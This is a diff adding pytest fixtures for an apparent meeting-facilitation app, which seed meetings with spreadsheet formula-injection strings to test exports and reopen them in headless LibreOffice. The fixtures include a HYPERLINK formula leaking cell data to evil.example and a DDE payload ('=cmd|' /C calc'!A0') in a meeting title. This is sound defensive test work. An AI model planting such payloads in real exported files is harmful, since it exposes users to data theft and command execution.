@@ -1,0 +1,104 @@
+"""Fixtures for export tests: hostile meetings, and LibreOffice to reopen what we write."""
+
+from __future__ import annotations
+
+import shutil
+import subprocess
+import uuid
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from facilitator.domain.model import (
+    Attendance,
+    Ballot,
+    Channel,
+    Idea,
+    Meeting,
+    Poll,
+    PollMethod,
+    PollOption,
+)
+from facilitator.storage import Workspace
+
+#: Texts a spreadsheet might run as formulas. Ideas are stripped, so tab/CR go in the notes.
+HOSTILE_IDEAS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "=1+1",
+)
+HOSTILE_NOTES = "\t=1+2 notes with a leading tab"
+
+
+def add_hostile_meeting(ws: Workspace, language: str = "fr") -> Meeting:
+    """A meeting whose ideas, options and notes are formula-injection attempts."""
+    meeting = ws.meetings.create(
+        Meeting(
+            title="=cmd|' /C calc'!A0",
+            place="@Salle des fêtes",
+            language=language,
+        )
+    )
+    ideas = [
+        ws.ideas.add(Idea(meeting_id=meeting.id, text=t, theme="-moins")) for t in HOSTILE_IDEAS
+    ]
+    ws.attendance.save(Attendance(meeting_id=meeting.id, headcount=12, notes=HOSTILE_NOTES))
+    poll = ws.polls.create_from_ideas(meeting.id, "+Quelle idée ?", PollMethod.SINGLE, ideas[:3])
+    ws.polls.open(poll.id)
+    for n in range(5):
+        ws.ballots.cast(
+            Ballot(
+                poll_id=poll.id,
+                voter=f"secret-voter-{n}",
+                channel=Channel.PHONE,
+                content={"option": poll.options[n % 3].id},
+            )
+        )
+    return meeting
+
+
+def add_english_meeting(ws: Workspace) -> Meeting:
+    meeting = ws.meetings.create(Meeting(title="Park renovation", place="Town hall", language="en"))
+    ws.ideas.add(Idea(meeting_id=meeting.id, text="More benches along the river path"))
+    ws.polls.create(
+        Poll(
+            meeting_id=meeting.id,
+            question="Which first?",
+            method=PollMethod.SINGLE,
+            options=(PollOption(label="Benches"), PollOption(label="Lights")),
+        )
+    )
+    return replace(meeting)
+
+
+def soffice_convert(source: Path, target_format: str, outdir: Path) -> Path:
+    """Open ``source`` in headless LibreOffice and save it as ``target_format`` in ``outdir``."""
+    soffice = shutil.which("soffice") or shutil.which("libreoffice")
+    if soffice is None:
+        pytest.skip("LibreOffice is not installed")
+    outdir.mkdir(parents=True, exist_ok=True)
+    profile = outdir.parent / f"lo-profile-{uuid.uuid4().hex}"
+    completed = subprocess.run(
+        [
+            soffice,
+            f"-env:UserInstallation={profile.as_uri()}",
+            "--headless",
+            "--norestore",
+            "--convert-to",
+            target_format,
+            "--outdir",
+            str(outdir),
+            str(source),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
+    shutil.rmtree(profile, ignore_errors=True)
+    produced = outdir / f"{source.stem}.{target_format.split(':')[0]}"
+    assert produced.exists(), f"LibreOffice did not convert {source}: {completed.stderr}"
+    return produced
